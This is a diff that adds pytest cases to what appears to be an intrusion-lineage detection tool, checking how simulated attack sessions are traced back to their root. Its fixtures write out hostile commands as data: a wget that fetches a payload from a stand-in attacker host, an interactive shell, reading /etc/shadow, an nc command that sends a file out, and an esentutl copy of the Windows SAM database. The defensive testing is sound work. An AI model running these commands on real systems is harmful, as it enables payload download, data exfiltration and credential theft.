@@ -111,6 +111,29 @@ def test_a_hook_that_runs_in_everybodys_sessions_does_not_make_two_intrusions_on
     assert theirs in worked(stage, hook).operations  # an alert of the hook is about who planted it
 
 
+def test_a_plant_that_runs_in_another_strangers_session_does_not_bring_that_stranger_in() -> None:
+    stage = quiet()
+    first = asked(stage, 900, 2_000, "/bin/sh -c 'bash -i'")
+    stage.run(905, 2_001, 2_000, f"wget -q http://{ATTACKER}/r -O /usr/local/lib/refresh", "root")
+    planted = stage.touch(905.1, 2_001, "/usr/local/lib/refresh", user="root")
+    shell = stage.log_in(2_500, 4_000, "ana", OTHER, "x")
+    hook = stage.run(2_500.5, 4_005, shell, "/bin/sh /usr/local/lib/refresh", "ana", "x")
+    theirs = stage.run(2_600, 4_006, shell, "cat /etc/shadow", "ana", "x")
+    found = worked(stage, planted)
+    assert began(found) == first
+    assert hook in found.operations and theirs not in found.operations
+
+
+def test_a_service_may_fork_for_a_visitor_and_become_another_account() -> None:
+    stage = quiet()
+    first = asked(stage, 900, 2_000, "/bin/sh -c 'render a'")
+    stage.accept(1_000, DESK, ATTACKER, "root")
+    stage.row(1_000.1, "file.read", 2_100, file__path="/srv/desk/label", actor__user__name="www-data",
+              actor__process__parent_process__uid=f"shop-1/{DESK}")  # fmt: skip
+    taken = stage.run(1_000.2, 2_101, 2_100, "/bin/sh -c 'id'")
+    assert first in worked(stage, taken).operations
+
+
 def test_what_is_older_and_only_met_on_the_way_is_not_the_root() -> None:
     stage = quiet()
     older = stage.run(600, 2_500, 61, f"/bin/sh -c 'nc {OTHER} 9 < /srv/list'", "mail")
@@ -182,3 +205,17 @@ def test_hostile_lineage_and_a_thousand_visits_end() -> None:
     visits = [asked(stage, 1_000 + n, 3_000 + n, "/bin/sh -c 'id'") for n in range(1_000)]
     assert began(worked(stage, visits[500])) == visits[0]
     assert worked(stage, "made.log#1").operations
+
+
+def test_on_windows_a_copy_of_the_account_database_is_no_service_and_not_closed_as_benign() -> None:
+    stage = Stage("ws-5")
+    stage.row(0, "process.launch", 1, process__uid="ws-5/2", process__pid=2, actor__user__name="WS-5\\ana",
+              process__file__path="C:\\windows\\system32\\cmd.exe", process__cmd_line="cmd.exe")  # fmt: skip
+    copied = stage.row(
+        5, "process.launch", 2, process__uid="ws-5/3", process__pid=3, actor__user__name="WS-5\\ana",
+        process__file__path="C:\\windows\\system32\\esentutl.exe",
+        process__cmd_line="esentutl.exe /y /vss C:\\windows/system32/config/SAM /d C:\\ProgramData\\SAM",
+    )  # fmt: skip
+    found = worked(stage, copied)
+    assert found.verdict != "benign" and found.entry_point is not None
+    assert "service" not in found.entry_point.text
